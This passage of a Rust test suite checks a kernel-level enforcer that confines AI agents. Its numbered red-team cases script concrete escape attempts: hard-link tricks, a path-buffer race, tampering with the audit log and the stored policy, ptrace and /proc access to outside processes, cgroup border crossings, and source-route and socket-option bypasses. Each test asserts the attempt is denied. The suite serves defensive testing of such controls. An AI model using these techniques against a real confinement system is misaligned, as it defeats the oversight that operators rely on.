    let tool = fx.p("tmp/exact-tool");
    std::fs::copy(BUSYBOX, &tool).unwrap();
    let twin = fx.p("tmp/twin");
    std::fs::hard_link(&tool, &twin).unwrap();
    let metered = fx.p("tmp/metered-tool");
    std::fs::copy(BUSYBOX, &metered).unwrap();
    let metered_twin = fx.p("tmp/metered-twin");
    std::fs::hard_link(&metered, &metered_twin).unwrap();
    let mut k = fx.load(&format!(
        "\x20 - {{ id: exact-tool, exec: {{ path: {} }}, verdict: allow, reason: one program }}\n\
         \x20 - {{ id: metered-tool, exec: {{ path: {} }}, verdict: throttle, throttle: {{ rate: 100, per: 1m }}, reason: metered }}\n",
        tool.display(),
        metered.display()
    ));
    let ev = allow(
        &mut k,
        &fx,
        "the same identity under another name",
        &Attempt::exec_args(&twin, &["true"]),
    );
    assert_eq!(ev.rule_id, k.rule(14));
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&twin, libc::O_WRONLY),
    );
    assert_eq!(outcome, Outcome::Exited(0), "the agent writes to it");
    deny(
        &mut k,
        &fx,
        "exec of an agent-written file by an exact rule's identity",
        &Attempt::exec_args(&twin, &["true"]),
        Kind::Exec,
        Control::Succeeds,
    );
    let ev = allow(
        &mut k,
        &fx,
        "the exact rule's own path",
        &Attempt::exec_args(&tool, &["true"]),
    );
    assert_eq!(ev.rule_id, k.rule(14));
    // A restricting identity rule still holds for a file an agent wrote: a hard link to the
    // blocked binary, written to by the agent, is refused by the binary's own rule (red team
    // round 12: only allows are not trusted for written files).
    let blocked_link = fx.p("tmp/blocked-link");
    std::fs::hard_link(fx.p("blocked/true"), &blocked_link).unwrap();
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&blocked_link, libc::O_WRONLY),
    );
    assert_eq!(outcome, Outcome::Exited(0), "the agent writes to it");
    let ev = deny(
        &mut k,
        &fx,
        "exec of a blocked binary the agent wrote to, by another name",
        &Attempt::exec(&blocked_link, "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(4));
    // Nor does a throttle (or sandbox, or escalate) rule's identity beat the allowlist's
    // default for a file the agent wrote (red team round 14): the more severe answer holds.
    // Control: the metered program by its own path runs, metered.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&metered_twin, libc::O_WRONLY),
    );
    assert_eq!(outcome, Outcome::Exited(0), "the agent writes to it");
    deny(
        &mut k,
        &fx,
        "exec of an agent-written file by a throttle rule's identity",
        &Attempt::exec_args(&metered_twin, &["true"]),
        Kind::Exec,
        Control::Succeeds,
    );
    let ev = allow(
        &mut k,
        &fx,
        "the metered program by its own path",
        &Attempt::exec_args(&metered, &["true"]),
    );
    assert_eq!(ev.rule_id, k.rule(15));
}

/// Red-team case 21, the Phantom race: the path buffer flips between an allowed and a denied file while the
/// kernel reads it; the verdict always matches the object actually opened or executed.
#[test]
fn phantom_race_decides_on_the_object() {
    require_root();
    let fx = Fixture::new("phantom");
    let mut k = fx.load("");
    // Same-length names: an allowed file and the denied one.
    let allowed = fx.p("allowed/key");
    std::fs::write(&allowed, "public").unwrap();
    let denied = fx.p("secrets/key");
    let (ap, dp) = (allowed.to_str().unwrap(), denied.to_str().unwrap());
    assert_eq!(ap.len(), dp.len());
    println!("redteam: tried 21 phantom race on open");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::exec_args(
            Path::new(HELPER),
            &["redteam-helper", "phantom-open", ap, dp, "10000"],
        ),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "phantom-open: 0 ok, 1 a denied file was opened, 2 no race"
    );
    println!("redteam: denied 21 phantom race on open");
    println!("redteam: control 21 phantom race on open");
    // Every file event is consistent: denials name the denied file, allows the allowed one.
    // The helper has exited, so its events are in the ring already: the drain ends at the
    // first 200 ms without one (nothing is waited for).
    let mut seen = 0;
    while let Some(ev) = k.try_event_where(Duration::from_millis(200), |e| {
        Kind::from_u8(e.kind) == Some(Kind::File) && [ap, dp].contains(&text(&e.path).as_str())
    }) {
        let path = text(&ev.path);
        if ev.flags & flags::DENIED != 0 {
            assert_eq!(path, dp);
        } else {
            assert_eq!(path, ap);
        }
        seen += 1;
    }
    assert!(seen > 0);

    // Exec: a spawned child shares the flipping buffer while it execs.
    let (ea, ed) = (fx.p("allowed/true"), fx.p("blocked/true"));
    let (ea, ed) = (ea.to_str().unwrap(), ed.to_str().unwrap());
    assert_eq!(ea.len(), ed.len());
    println!("redteam: tried 21 phantom race on exec");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::exec_args(
            Path::new(HELPER),
            &["redteam-helper", "phantom-exec", ea, ed, "300"],
        ),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "phantom-exec: both outcomes must occur"
    );
    // As above: the helper has exited, its events are all in the ring.
    let mut checked = 0;
    while let Some(ev) = k.try_event_where(Duration::from_millis(200), |e| {
        Kind::from_u8(e.kind) == Some(Kind::Exec) && [ea, ed].contains(&text(&e.path).as_str())
    }) {
        let path = text(&ev.path);
        // The name in the event is the kernel's copy, the one it resolved: it decides.
        if ev.flags & flags::DENIED != 0 {
            assert_eq!(path, ed);
        } else {
            assert_eq!(path, ea);
        }
        checked += 1;
    }
    assert!(checked > 0);
    println!("redteam: denied 21 phantom race on exec");
    println!("redteam: control 21 phantom race on exec");
}

/// Reliability fault 4: a flood of denied opens. Every one is denied; events beyond the ring's
/// capacity are dropped and counted.
#[test]
fn ring_buffer_flood_never_loses_a_denial() {
    require_root();
    let fx = Fixture::new("flood");
    let k = fx.load("");
    let n = 50_000;
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::exec_args(
            Path::new(HELPER),
            &[
                "redteam-helper",
                "flood",
                fx.p("secrets/key").to_str().unwrap(),
                &n.to_string(),
            ],
        ),
    );
    assert_eq!(outcome, Outcome::Exited(0), "every open denied");
    let denials = k
        .enforcer
        .counter(governance_common::Counter::Denials)
        .unwrap();
    let dropped = k
        .enforcer
        .counter(governance_common::Counter::EventsDropped)
        .unwrap();
    assert!(denials >= n, "denials counted: {denials}");
    assert!(
        dropped > 0,
        "nobody read the ring: drops must be counted ({dropped})"
    );
    // Counted per CPU, and shown so by `governance status`.
    let per_cpu = k
        .enforcer
        .counter_per_cpu(governance_common::Counter::EventsDropped)
        .unwrap();
    assert_eq!(per_cpu.len(), aya::util::nr_cpus().unwrap());
    assert_eq!(per_cpu.iter().sum::<u64>(), dropped);
    let status = std::process::Command::new(governance_bin())
        .args(["status", "--pinned", "--pins"])
        .arg(&*k.pins)
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&status.stdout);
    let each: Vec<String> = per_cpu.iter().map(u64::to_string).collect();
    assert!(
        shown.contains(&format!(
            "events dropped   {dropped} (per CPU: {})",
            each.join(" ")
        )),
        "{shown}"
    );
}

/// Reliability fault 1: `kill -9` the daemon in the middle of an exec loop. Denials continue
/// (the links are pinned); a restarted daemon adopts the pins without attaching again and
/// prints the events of the downtime.
#[test]
fn daemon_killed_enforcement_continues_and_restart_adopts() {
    use std::io::Read as _;
    require_root();
    let fx = Fixture::new("kill");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("p.yaml"), fx.policy("")).unwrap();
    let pins = pin_dir("daemon");
    let pins_arg = pins.to_str().unwrap().to_owned();
    let args = ["--no-create-cgroups", "--pins", &pins_arg];
    let state = fx.p("state");
    let (mut daemon, _) = start_daemon_in(&args, &dir, state.clone());
    let blocked = Attempt::exec(&fx.p("blocked/true"), "true");
    let links = || {
        let out = std::process::Command::new("/usr/sbin/bpftool")
            .args(["link", "show"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter(|l| l.contains("prog"))
            .count()
    };
    let before = links();
    let (_, outcome) = run_in(Some(&fx.agent.path), "before-kill", &blocked);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    daemon.child.kill().unwrap(); // SIGKILL, by pid
    let _ = daemon.child.wait();
    let mut pids = Vec::new();
    for _ in 0..5 {
        let (pid, outcome) = run_in(Some(&fx.agent.path), "while-dead", &blocked);
        assert_eq!(
            outcome,
            Outcome::Errno(libc::EPERM),
            "denials continue while the daemon is dead"
        );
        pids.push(pid);
    }
    let (outside_pid, outcome) = run_in(Some(&fx.outsider.path), "outsider", &blocked);
    assert_eq!(outcome, Outcome::Exited(0));
    let _ = outside_pid;
    let (mut daemon, seen) = start_daemon_in(&args, &dir, state.clone());
    assert!(seen.contains("adopted the programs pinned in"), "{seen}");
    assert_eq!(links(), before, "no link attached twice");
    // The downtime's events come first on stdout.
    governance_tests::signal(&daemon, nix::sys::signal::SIGTERM);
    let mut out = String::new();
    daemon
        .child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    assert!(daemon.child.wait().unwrap().success());
    for pid in pids {
        assert!(
            out.contains(&format!("pid={pid} ")),
            "event of pid {pid} drained:\n{out}"
        );
    }
    // The audit log survived the SIGKILL: its chain verifies across both runs, and the
    // restart says enforcement went on while no daemon ran.
    let verify = std::process::Command::new(governance_bin())
        .args(["audit", "verify"])
        .arg(state.join("audit"))
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&verify.stdout);
    assert!(verify.status.success(), "{report}");
    assert!(report.contains("audit log OK"), "{report}");
    assert!(out.contains("adopted the pinned programs"), "{out}");
    // Still pinned after a clean stop; unload removes it and enforcement ends.
    let (_, outcome) = run_in(Some(&fx.agent.path), "after-stop", &blocked);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    let out = std::process::Command::new(governance_bin())
        .args(["unload", "--pins", &pins_arg])
        .output()
        .unwrap();
    assert!(out.status.success());
    // Detached by the time `unload` returns (from Linux 6.12 the kernel frees a link whose
    // last reference was its pin from a work queue; unload closes a descriptor of its own
    // last, which frees it at once).
    let (_, outcome) = run_in(Some(&fx.agent.path), "after-unload", &blocked);
    assert_eq!(outcome, Outcome::Exited(0));
}

/// The built-in refusals of raw sockets and user namespaces are the policy's to relax: with
/// `kernel: { allow_raw_sockets: true, allow_user_namespaces: true }` the agent gets them (and
/// the decision is reported as allowed by the built-in).
#[test]
fn policy_relaxes_built_in_protections() {
    require_root();
    let fx = Fixture::new("relaxed");
    let mut k = fx.load("kernel: { allow_raw_sockets: true, allow_user_namespaces: true }\n");
    for attempt in [
        Attempt::Socket {
            family: libc::AF_NETLINK,
            ty: libc::SOCK_RAW,
            protocol: libc::NETLINK_ROUTE,
        },
        // A packet socket also needs CAP_NET_RAW, which allowing raw sockets gives back (red
        // team round 16; marks stay refused: root_facilities_are_refused_to_agents).
        Attempt::Socket {
            family: libc::AF_PACKET,
            ty: libc::SOCK_RAW,
            protocol: 0,
        },
        Attempt::Unshare {
            flags: libc::CLONE_NEWUSER,
        },
    ] {
        let ev = allow(&mut k, &fx, "relaxed built-in", &attempt);
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
    }
    // Red team round 29: with CAP_NET_RAW back, a socket priority above 6 is what would make
    // a listener of the agent's pass for the daemon's proxy listener; the hook cannot read the
    // value (a 32-bit call passes `cgroup/setsockopt` by), so such an agent sets no priority.
    let ev = deny(
        &mut k,
        &fx,
        "R29 setsockopt(SO_PRIORITY) with raw sockets allowed",
        &Attempt::SetSockOpt {
            family: libc::AF_INET,
            ty: libc::SOCK_STREAM,
            level: libc::SOL_SOCKET,
            name: libc::SO_PRIORITY,
            value: governance_common::PROXY_LISTENER_PRIORITY
                .to_ne_bytes()
                .to_vec(),
        },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::PACKET_MARK);
}

/// The incident responder's view: denied execs from an agent reach a live `governance events
/// --follow` subscriber, in order, with every field right; an escalation is approved with
/// `governance approve` and the agent's retry passes; the approval is on the stream with who
/// approved it.
#[test]
fn daemon_events_and_approvals() {
    use std::io::BufRead as _;
    require_root();
    let fx = Fixture::new("stream");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("p.yaml"), fx.policy("")).unwrap();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let (daemon, seen) = start_daemon(&["--no-create-cgroups", "--pins", &pins_arg], &dir);
    let first = governance_tests::first_generation(&seen);
    let agent = fx.agent.rel.display().to_string();
    let mut follower = std::process::Command::new(governance_bin())
        .args([
            "events", "--follow", "-o", "json", "--agent", &agent, "--socket",
        ])
        .arg(daemon.socket())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = std::sync::mpsc::channel::<serde_json::Value>();
    let out = follower.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
            if let Ok(v) = serde_json::from_str(&line)
                && tx.send(v).is_err()
            {
                break;
            }
        }
    });
    let next = |what: &str, pred: &dyn Fn(&serde_json::Value) -> bool| -> serde_json::Value {
        // Generous: the VM is emulated and may share its two cores with a loaded host.
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        loop {
            let left = deadline.saturating_duration_since(std::time::Instant::now());
            let v = rx
                .recv_timeout(left)
                .unwrap_or_else(|_| panic!("no {what} on the event stream within 60 s"));
            if pred(&v) {
                return v;
            }
        }
    };
    // The stream's first record says the subscription is live: nothing after it is missed.
    let live = rx
        .recv_timeout(Duration::from_secs(60))
        .expect("no first record (stream.subscribed) on the event stream within 60 s");
    assert_eq!(
        live["kind"], "stream.subscribed",
        "the first record: {live}"
    );
    assert_eq!(live["type"], "lifecycle");
    assert_eq!(live["stream"]["filter"]["agent"], agent.as_str());
    assert!(live["stream"]["after_id"].as_str().is_some(), "{live}");
    let blocked = Attempt::exec(&fx.p("blocked/true"), "true");
    let mut pids = Vec::new();
    for _ in 0..3 {
        let (pid, outcome) = run_in(Some(&fx.agent.path), "stream-agent", &blocked);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM));
        pids.push(pid);
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &blocked);
        assert_eq!(outcome, Outcome::Exited(0), "control");
    }
    let mut last_id = String::new();
    for pid in pids {
        let v = next("the denied exec", &|v| {
            v["type"] == "decision" && v["kind"] == "exec" && v["denied"] == true
        });
        // In order, and every field as the kernel and the policy say.
        assert_eq!(v["process"]["pid"], pid, "in order: {v}");
        assert!(
            v["id"].as_str().unwrap() > last_id.as_str(),
            "ids ascend: {v}"
        );
        last_id = v["id"].as_str().unwrap().to_owned();
        assert_eq!(v["outcome"], "block");
        assert_eq!(v["verdict"], "block");
        assert_eq!(v["mode"], "enforce");
        assert_eq!(v["rule"], "redteam/exfil");
        assert_eq!(v["reason"], "exfiltration tool");
        assert_eq!(v["generation"], first);
        assert_eq!(v["source"], "kernel");
        assert_eq!(v["agent"]["name"], agent.as_str());
        assert_eq!(v["agent"]["cgroup"], agent.as_str());
        assert_eq!(v["agent"]["cgroup_id"], fx.agent.id());
        assert_eq!(v["agent"]["selector"], format!("cgroup={agent}"));
        assert_eq!(v["agent"]["pod"], "");
        assert_eq!(v["cgroup"]["id"], fx.agent.id());
        assert_eq!(v["process"]["tid"], pid);
        assert_eq!(v["process"]["ppid"], std::process::id());
        assert_eq!(v["process"]["uid"], 0);
        assert_eq!(v["process"]["comm"], "stream-agent");
        // The child exits right after the refused exec: procfs may or may not still have it.
        let e = v["process"]["enrichment"].as_str().unwrap();
        assert!(e == "procfs" || e == "gone", "{v}");
        assert_eq!(v["object"]["path"], fx.p("blocked/true").to_str().unwrap());
        assert!(v["time"].as_str().unwrap().ends_with('Z'));
        assert!(!v["node"].as_str().unwrap().is_empty());
    }
    // An escalated open: refused now, queued for a human.
    let a = Attempt::open(&fx.p("approve-me.txt"), libc::O_RDONLY);
    let (_, outcome) = run_in(Some(&fx.agent.path), "stream-agent", &a);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    let asked = next("the escalation", &|v| v["outcome"] == "escalate");
    let id = asked["approval"]["id"]
        .as_str()
        .expect("an approval id")
        .to_owned();
    let listed = daemon.cli(&["approvals", "-o", "json"]);
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(listed.contains(&id), "{listed}");
    let approved = daemon.cli(&["approve", &id, "--for", "1m", "--as", "tester"]);
    assert!(
        approved.status.success(),
        "{}",
        String::from_utf8_lossy(&approved.stderr)
    );
    let (_, outcome) = run_in(Some(&fx.agent.path), "stream-agent", &a);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "the retry passes after approval"
    );
    let granted = next("the approval", &|v| v["kind"] == "approval.approved");
    let by = granted["approval"]["by"].as_str().unwrap();
    assert!(
        by.starts_with("tester (uid 0 via the control socket)"),
        "{by}"
    );
    next("the granted retry", &|v| v["outcome"] == "granted");
    // A second approval of the same id is refused, naming who settled it.
    let again = daemon.cli(&["approve", &id]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("approved"));
    // The daemon's secrets are out of an agent's reach: the audit log is neither read nor
    // written (nor is the node CA's key); outside the agent, it is.
    let log = std::fs::read_dir(daemon.audit())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.is_file())
        .expect("an audit file");
    for (case, flags) in [
        ("39 read the audit log", libc::O_RDONLY),
        ("39 write the audit log", libc::O_WRONLY | libc::O_APPEND),
    ] {
        println!("redteam: tried {case}");
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::open(&log, flags));
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        println!("redteam: denied {case}");
        let (_, outcome) = run_in(
            Some(&fx.outsider.path),
            "outsider",
            &Attempt::open(&log, libc::O_RDONLY),
        );
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        println!("redteam: control {case}");
    }
    // The copy of the policy in force a start falls back on is not the agent's to write (a
    // weaker policy planted there would be enforced by the next start that finds the policy
    // directory broken): not by its name, not by a file staged beside it, not through a hard
    // link made elsewhere (each copy is a new file: the directory's identity covers it). Outside
    // the agent, each is made.
    let dir = daemon.state.join(governance_tests::POLICY_IN_FORCE);
    let copy = dir.join("policy.json");
    governance_tests::wait_until(
        "the daemon to keep a copy of the policy in force",
        Duration::from_secs(60),
        || copy.exists(),
    );
    let (staged, linked) = (dir.join("planted.json"), daemon.state.join("copy-link"));
    for (case, attempt, made) in [
        (
            "39 write the copy of the policy in force",
            Attempt::open(&copy, libc::O_WRONLY),
            None,
        ),
        (
            "39 stage a file beside the copy of the policy in force",
            Attempt::open(&staged, libc::O_WRONLY | libc::O_CREAT),
            Some(&staged),
        ),
        (
            "39 hard-link the copy of the policy in force out of its directory",
            Attempt::link(&copy, &linked),
            Some(&linked),
        ),
    ] {
        println!("redteam: tried {case}");
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        println!("redteam: denied {case}");
        // A refused create may leave its empty file behind (see docs/limits.md).
        if let Some(made) = made {
            let _ = std::fs::remove_file(made);
        }
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        if let Some(made) = made {
            std::fs::remove_file(made).unwrap();
        }
        println!("redteam: control {case}");
    }
    // A stopping daemon ends the stream with a record that says why and a proper end of
    // body: the follower exits 0 (a cut mid-chunk would make it fail).
    governance_tests::stop_daemon(daemon);
    let ended = next("the end of the stream (stream.ended)", &|v| {
        v["kind"] == "stream.ended"
    });
    assert_eq!(ended["message"], "the daemon is stopping", "{ended}");
    let status = follower.wait().unwrap();
    assert!(status.success(), "the follower exited with {status:?}");
}

/// Processes outside the agent are out of its reach, not only the daemon: no signals, no
/// ptrace, no reading their memory, environment, descriptors or mount namespace through
/// /proc, no changing their limits or priority. Inside its own subtree the agent keeps all of
/// that (a shell killing its own job, `ps`).
#[test]
fn processes_outside_the_agent_are_out_of_reach() {
    require_root();
    let fx = Fixture::new("procs");
    let mut k = fx.load("");
    for hook in [
        "task_setrlimit",
        "task_setnice",
        "task_setioprio",
        "task_setscheduler",
        "task_movememory",
    ] {
        k.require(hook);
    }
    // A bystander: an ordinary process outside every agent (not protected).
    let mut bystander = std::process::Command::new(BUSYBOX)
        .args(["sleep", "600"])
        .stdin(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let bpid = bystander.id() as i32;
    // Its own image, not the test's it was forked from: the address read below must stay mapped.
    // A mapping of busybox itself, once the exec has made it (`/proc/PID/exe` names the new
    // program before its segments are mapped: an address read then may be gone a moment later).
    let busybox_mapping = || {
        let maps = std::fs::read_to_string(format!("/proc/{bpid}/maps")).ok()?;
        maps.lines()
            .find(|l| l.ends_with(BUSYBOX))
            .and_then(|l| u64::from_str_radix(l.split('-').next()?, 16).ok())
    };
    governance_tests::wait_until(
        "the bystander to have mapped busybox",
        Duration::from_secs(20),
        || busybox_mapping().is_some(),
    );
    let addr = busybox_mapping().expect("busybox mapped");
    let proc_file =
        |name: &str| Attempt::open(Path::new(&format!("/proc/{bpid}/{name}")), libc::O_WRONLY);
    let cases: [(&str, Attempt, i32, Kind); 11] = [
        (
            "30 signal 0 to a process outside the agent",
            Attempt::Kill { pid: bpid, sig: 0 },
            libc::EPERM,
            Kind::Signal,
        ),
        (
            "30 ptrace attach to a process outside the agent",
            Attempt::PtraceSeize { pid: bpid },
            libc::EPERM,
            Kind::Ptrace,
        ),
        (
            "30 process_vm_readv of a process outside the agent",
            Attempt::ProcessVmRead { pid: bpid, addr },
            libc::EPERM,
            Kind::Ptrace,
        ),
        (
            "30 pidfd_getfd of a descriptor outside the agent",
            Attempt::PidfdGetfd { pid: bpid, fd: 0 },
            libc::EPERM,
            Kind::Ptrace,
        ),
        (
            "30 /proc/PID/environ of a process outside the agent",
            Attempt::open(Path::new(&format!("/proc/{bpid}/environ")), libc::O_RDONLY),
            libc::EACCES,
            Kind::Ptrace,
        ),
        (
            "30 /proc/PID/root: another process's view of the files",
            Attempt::open(
                Path::new(&format!("/proc/{bpid}/root/governance/policies")),
                libc::O_RDONLY | libc::O_DIRECTORY,
            ),
            libc::EACCES,
            Kind::Ptrace,
        ),
        (
            "30 prlimit of a process outside the agent",
            Attempt::Prlimit { pid: bpid },
            libc::EPERM,
            Kind::Task,
        ),
        (
            "30 setpriority of a process outside the agent",
            Attempt::SetPriority { pid: bpid },
            libc::EPERM,
            Kind::Task,
        ),
        // procfs asks no ptrace check for these: root may write them for any process.
        (
            "30 /proc/PID/oom_score_adj: the daemon first to go under memory pressure",
            proc_file("oom_score_adj"),
            libc::EPERM,
            Kind::Guard,
        ),
        (
            "30 /proc/PID/task/TID/oom_score_adj: the same by the thread's name",
            proc_file(&format!("task/{bpid}/oom_score_adj")),
            libc::EPERM,
            Kind::Guard,
        ),
        (
            "30 /proc/PID/coredump_filter of a process outside the agent",
            proc_file("coredump_filter"),
            libc::EPERM,
            Kind::Guard,
        ),
    ];
    for (case, attempt, errno, kind) in &cases {
        let ev = deny_errno(&mut k, &fx, case, attempt, *errno, *kind, Control::Succeeds);
        assert_eq!(ev.object, bpid as u64, "{case}: the target in the event");
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        if *kind == Kind::Guard {
            assert_eq!(
                ev.detail,
                governance_common::guard::PROC_OF_OUTSIDE,
                "{case}"
            );
        }
    }
    // Within its own subtree the agent keeps job control and `ps`.
    for (case, script) in [
        (
            "a shell kills its own job",
            "sleep 30 & kill $!; wait $!; [ $? -eq 143 ]",
        ),
        ("ps lists every process", "ps >/dev/null"),
        (
            "renice of its own child",
            "sleep 30 & renice -n 5 -p $! >/dev/null; kill $!",
        ),
        (
            "its own and its child's OOM score",
            "echo 500 > /proc/$$/oom_score_adj || exit 1; sleep 30 & echo 600 > /proc/$!/oom_score_adj \
             && grep -qx 600 /proc/$!/oom_score_adj; r=$?; kill $!; exit $r",
        ),
    ] {
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::exec_args(Path::new(BUSYBOX), &["sh", "-c", script]),
        );
        assert_eq!(outcome, Outcome::Exited(0), "{case}: inside the agent");
    }
    let _ = bystander.kill();
    let _ = bystander.wait();
}

/// An agent may not pull a process from outside into its subtree (then take its descriptors,
/// or freeze the daemon through `cgroup.freeze`, which no signal hook sees), nor make cgroups
/// outside it; it may not give its packets a source route past the network rules. Each refusal
/// has its control outside the agent; moving its own processes, and control messages that route
/// nothing, still work.
#[test]
fn processes_pulled_in_and_source_routes_are_refused() {
    require_root();
    let fx = Fixture::new("border");
    let mut k = fx.load("");
    for hook in ["inode_permission", "socket_setsockopt", "socket_sendmsg"] {
        k.require(hook);
    }
    // A process outside every agent, in the outsider cgroup.
    let victim = outside_process(&["sleep", "600"]);
    let victim_pid = victim.id().to_string();
    let put_outside = || {
        std::fs::write(fx.outsider.path.join("cgroup.procs"), &victim_pid).unwrap();
    };
    put_outside();
    let child = fx.agent.child("pulled");
    for (case, procs) in [
        (
            "39 pull an outside process into the agent's cgroup.procs",
            fx.agent.path.join("cgroup.procs"),
        ),
        (
            "39 pull an outside process into a child cgroup of the agent",
            child.join("cgroup.procs"),
        ),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::write(&procs, &victim_pid),
            Kind::Guard,
            Control::Succeeds,
        );
        assert_eq!(ev.detail, governance_common::guard::CGROUP_BORDER, "{case}");
        // The control moved it in from outside: back out for the next case.
        put_outside();
    }
    // The victim never ran under the agent's policy by the agent's doing, and stays outside.
    let cgroup = std::fs::read_to_string(format!("/proc/{victim_pid}/cgroup")).unwrap();
    assert!(
        cgroup
            .trim_end()
            .ends_with(fx.outsider.rel.to_str().unwrap()),
        "{cgroup}"
    );
    // Its own processes move within the agent as before.
    allow(
        &mut k,
        &fx,
        "39 move itself into its own child cgroup",
        &Attempt::write(&child.join("cgroup.procs"), "0"),
    );
    let ev = deny(
        &mut k,
        &fx,
        "39 make a cgroup outside the agent",
        &Attempt::Mkdir {
            path: cstr(&fx.outsider.path.join("made")),
        },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::CGROUP_BORDER);
    assert_eq!(ev.object, fx.outsider.id());
    let _ = std::fs::remove_dir(fx.outsider.path.join("made"));

    // Source routes: the packet would go on from the decided address to the route's last hop.
    let local = |p: u16| SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::LOCALHOST, p));
    // IPOPT_LSRR, length 7, pointer 4, one hop (10.0.0.1), then the end of options.
    let lsrr = vec![131, 7, 4, 10, 0, 0, 1, 0];
    let cases = [
        (
            "40 setsockopt(IP_OPTIONS) with a loose source route",
            Attempt::SetSockOpt {
                family: libc::AF_INET,
                ty: libc::SOCK_DGRAM,
                level: libc::IPPROTO_IP,
                name: libc::IP_OPTIONS,
                value: lsrr.clone(),
            },
            Control::Succeeds,
        ),
        (
            "40 setsockopt(IPV6_RTHDR) with a routing header",
            Attempt::SetSockOpt {
                family: libc::AF_INET6,
                ty: libc::SOCK_DGRAM,
                level: libc::IPPROTO_IPV6,
                name: libc::IPV6_RTHDR,
                // Type 2, one segment left, then the address (::1).
                value: [&[0u8, 2, 2, 1, 0, 0, 0, 0][..], &[0; 15], &[1]].concat(),
            },
            Control::NotEperm,
        ),
        (
            "40 sendmsg with an IP_RETOPTS source route",
            Attempt::SendMsgCmsg {
                addr: local(9),
                level: libc::IPPROTO_IP,
                ty: libc::IP_RETOPTS,
                data: lsrr.clone(),
                after_plain: false,
            },
            Control::NotEperm,
        ),
        (
            "40 sendmsg with an IPV6_RTHDR routing header",
            Attempt::SendMsgCmsg {
                addr: "[::1]:9".parse().unwrap(),
                level: libc::IPPROTO_IPV6,
                ty: libc::IPV6_RTHDR,
                data: [&[0u8, 2, 2, 1, 0, 0, 0, 0][..], &[0; 15], &[1]].concat(),
                after_plain: false,
            },
            Control::NotEperm,
        ),
        (
            // A flow label made with options (a routing header among them) carries them on
            // every datagram sent with it; refused whatever the request asks.
            "40 setsockopt(IPV6_FLOWLABEL_MGR): a flow label, which can carry a routing header",
            Attempt::SetSockOpt {
                family: libc::AF_INET6,
                ty: libc::SOCK_DGRAM,
                level: libc::IPPROTO_IPV6,
                name: 32, // IPV6_FLOWLABEL_MGR
                // struct in6_flowlabel_req: ::1, label 0x12345, IPV6_FL_A_GET,
                // IPV6_FL_S_EXCL, IPV6_FL_F_CREATE, expires and linger 0, padding.
                value: [
                    &[0u8; 15][..],
                    &[1],
                    &0x0001_2345u32.to_be_bytes(),
                    &[0, 1],
                    &1u16.to_ne_bytes(),
                    &[0; 8],
                ]
                .concat(),
            },
            Control::NotEperm,
        ),
    ];
    for (case, attempt, control) in &cases {
        let ev = deny(&mut k, &fx, case, attempt, Kind::Guard, *control);
        assert_eq!(ev.detail, governance_common::guard::SOURCE_ROUTE, "{case}");
    }
    // An upper-layer protocol on a TCP socket: SMC moves the data where no packet program
    // sees it (round 24). The control's `tls` on an unconnected socket is refused by the
    // kernel itself (ENOTCONN, or ENOENT without the module), never EPERM.
    let case = "40 setsockopt(TCP_ULP): an upper-layer protocol on a TCP socket";
    let ev = deny(
        &mut k,
        &fx,
        case,
        &Attempt::SetSockOpt {
            family: libc::AF_INET,
            ty: libc::SOCK_STREAM,
            level: libc::IPPROTO_TCP,
            name: 31, // TCP_ULP
            value: b"tls\0".to_vec(),
        },
        Kind::Guard,
        Control::NotEperm,
    );
    assert_eq!(ev.detail, governance_common::guard::SOCKET_ULP, "{case}");
    // Binding IPv6 to an address the node need not own: an allowed destination's replies
    // and ICMPv6 errors go to that address (round 27). The control sets it outside.
